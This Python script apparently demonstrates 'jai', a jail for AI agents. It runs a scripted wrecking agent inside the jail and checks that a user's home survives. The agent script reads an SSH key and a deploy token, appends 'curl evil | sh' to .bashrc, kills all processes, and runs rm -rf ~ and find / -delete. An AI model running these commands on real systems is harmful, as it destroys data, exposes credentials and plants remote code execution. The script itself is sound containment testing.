"""Shows what jai is for: an agent wrecks everything it can reach, and what is left outside.

`make run` starts it behind the wall. It furnishes ada's home there, lets the agent loose on it in each mode,
and prints side by side what the agent saw and what is left. It fails if anything but the project changed.
"""

from __future__ import annotations

import os
import pwd
import subprocess
import sys
from pathlib import Path

from rich.console import Console
from rich.table import Table
from rich.text import Text

from conformance import manifest

MODES = {
    "casual": "the home is a copy-on-write view",
    "bare": "the home is private and starts empty",
}
PROJECT = "project"
SECRET = "hunter2"  # noqa: S105 - it is the agent's to find
FILES = {
    "Documents/thesis.tex": "\\documentclass{book}\n" + "Years of work.\n" * 400,
    "Documents/letter.txt": "Dear Grace,\n",
    "Pictures/wedding.jpg": "not really a picture\n" * 900,
    ".bashrc": "alias ll='ls -l'\n",
    ".gitconfig": "[user]\n\tname = Ada\n",
    ".ssh/id_ed25519": "a private key\n",
    ".aws/credentials": "another one\n",
    f"{PROJECT}/main.py": "print('hello')\n",
    f"{PROJECT}/notes.txt": "to be thrown away by the agent\n",
}
PHOTOS = 200
PHOTO = bytes(range(256)) * 8

# Each act prints one line: what was done, a tab, what came of it.
AGENT = r"""
said() { printf '%s\t%s\n' "$1" "${2##*: }"; }
files() { find "$1" -type f 2>/dev/null | wc -l; }

said 'look at the home' "$(files ~) files"
said 'cat ~/.ssh/id_ed25519' "$(cat ~/.ssh/id_ed25519 2>&1)"
said 'echo $DEPLOY_TOKEN' "${DEPLOY_TOKEN:-(not set)}"
said 'echo "curl evil | sh" >> ~/.bashrc' "$(echo 'curl evil | sh' >> ~/.bashrc && tail -n 1 ~/.bashrc)"
kill -9 -1 2>/dev/null
said 'kill -9 -1' "$(ps -e -o pid= | wc -l) processes to be seen"
chmod -R 000 ~/Documents 2>/dev/null
said 'chmod -R 000 ~/Documents' "$(stat -c %A ~/Documents 2>&1)"
rm -rf ~/* ~/.[!.]* 2>/dev/null
said 'rm -rf ~' "$(files ~) files"
said 'touch /etc/x' "$(touch /etc/x 2>&1)"
echo 'the work the agent was asked for' > result.txt
find / -xdev -delete 2>/dev/null
said 'find / -xdev -delete' "$(test -x /bin/sh && echo '/bin/sh is still there')"
echo 'the work the agent was asked for' > result.txt
said 'do the work: write result.txt' "$(ls -A "$PWD" | tr '\n' ' ')"
"""


def main() -> int:
    """Run the demonstration: 0 if nothing was lost."""
    console = Console(width=None if sys.stdout.isatty() else 120)
    if os.environ.get("JAI_WALL") != "1" or "JAI" not in os.environ:
        console.print("A wrecker runs only behind the wall; start it with: make run", style="red")
        return 2
    ada = pwd.getpwnam("ada")
    furnish(ada)
    run(ada, os.environ["JAI"], "--init").check_returncode()  # it touches the home, so it comes first
    console.print(
        f"\nAn agent runs in [b]jai[/b] in {ada.pw_dir}/{PROJECT}, and wrecks everything it can reach.\n"
    )
    lost = [line for mode in MODES for line in show(console, ada, mode)]
    if lost:
        console.print("Lost outside the project:", *lost, sep="\n  ", style="bold red")
        return 1
    console.print(
        "Nothing was lost. What the agent did in the project is real: that is what it was there for.\n"
    )
    return 0


def furnish(ada: pwd.struct_passwd) -> None:
    """Make ada's home look lived in."""
    home = Path(ada.pw_dir)
    contents = {name: text.encode() for name, text in FILES.items()}
    contents |= {f"Pictures/{number:04}.jpg": PHOTO for number in range(PHOTOS)}
    for name, content in contents.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    (home / ".ssh" / "id_ed25519").chmod(0o600)
    if os.geteuid() == 0:
        for path in (home, *home.rglob("*")):
            os.chown(path, ada.pw_uid, ada.pw_gid)


def start(ada: pwd.struct_passwd, *command: str) -> subprocess.Popen[str]:
    """Start a command as ada in her project."""
    become = ["setpriv", f"--reuid={ada.pw_uid}", f"--regid={ada.pw_gid}", "--clear-groups", "--"]
    environment = {"HOME": ada.pw_dir, "USER": "ada", "LOGNAME": "ada", "PATH": "/usr/bin:/bin"}
    environment |= {"LC_ALL": "C.UTF-8", "DEPLOY_TOKEN": SECRET}
    return subprocess.Popen(
        [*(become if os.geteuid() == 0 else []), *command],
        cwd=Path(ada.pw_dir, PROJECT),
        env=environment,
        stdout=subprocess.PIPE,
        text=True,
    )


def run(ada: pwd.struct_passwd, *command: str) -> subprocess.CompletedProcess[str]:
    """Run a command as ada in her project to its end."""
    with start(ada, *command) as process:
        said, _ = process.communicate()
    return subprocess.CompletedProcess(command, process.returncode, said)


def show(console: Console, ada: pwd.struct_passwd, mode: str) -> list[str]:
    """Let the agent loose in one mode and print the two sides; what was lost outside the project."""
    furnish(ada)
    with start(ada, "sleep", "600") as canary:
        before = manifest.read(ada.pw_dir, without=[PROJECT, ".jai"])
        done = run(ada, os.environ["JAI"], "-m", mode, "-j", f"demo-{mode}", "sh", "-c", AGENT)
        lost = manifest.diff(before, manifest.read(ada.pw_dir, without=[PROJECT, ".jai"]))
        alive = canary.poll() is None
        canary.kill()
    console.print(table(mode, done.stdout, outside(Path(ada.pw_dir), alive=alive)))
    console.print(verdict(len(before), lost), "\n")
    return [*lost, *unfinished(done, alive=alive)]


def unfinished(done: subprocess.CompletedProcess[str], *, alive: bool) -> list[str]:
    """What else went wrong: the agent did not come to its end, or it killed a process outside."""
    wrong = []
    if done.returncode or not done.stdout.endswith("\tresult.txt \n"):
        wrong.append(f"the agent did not come to its end (status {done.returncode})")
    if not alive:
        wrong.append("a process outside was killed")
    return wrong


def outside(home: Path, *, alive: bool) -> list[str]:
    """What is left outside, act by act of the agent."""
    files = [path for path in home.rglob("*") if path.is_file() and path.relative_to(home).parts[0] != ".jai"]
    rest = [path for path in files if path.relative_to(home).parts[0] != PROJECT]
    return [
        f"{len(files)} files",
        (home / ".ssh" / "id_ed25519").read_text().strip(),
        SECRET,
        (home / ".bashrc").read_text().splitlines()[-1],
        "the process outside lives" if alive else "the process outside is DEAD",
        f"mode {(home / 'Documents').stat().st_mode & 0o777:o}",
        f"{len(rest)} files, without the project's",
        "(not there)" if not Path("/etc/x").exists() else "THERE",
        "/bin/sh is still there",
        " ".join(sorted(path.name for path in (home / PROJECT).iterdir())),
    ]


def table(mode: str, said: str, left: list[str]) -> Table:
    """Put the acts of the agent, what it saw and what is left side by side."""
    shown = Table(title=f"{mode}: {MODES[mode]}", title_justify="left", title_style="bold")
    shown.add_column("what the agent did", style="cyan", no_wrap=True)
    shown.add_column("what it saw in the jail", style="red", overflow="fold")
    shown.add_column("what is left outside", style="green", overflow="fold")
    for line, result in zip(said.splitlines(), left):
        act, _, seen = line.partition("\t")
        shown.add_row(Text(act), Text(seen), Text(result))
    return shown


def verdict(paths: int, lost: list[str]) -> str:
    """Say in one line what a comparison of the whole home found."""
    if lost:
        return f"[bold red]{len(lost)} differences in {paths} paths of the home[/]"
    return f"[bold green]{paths} paths of the home: the same content, mode, owner, times and attributes[/]"


if __name__ == "__main__":
    sys.exit(main())
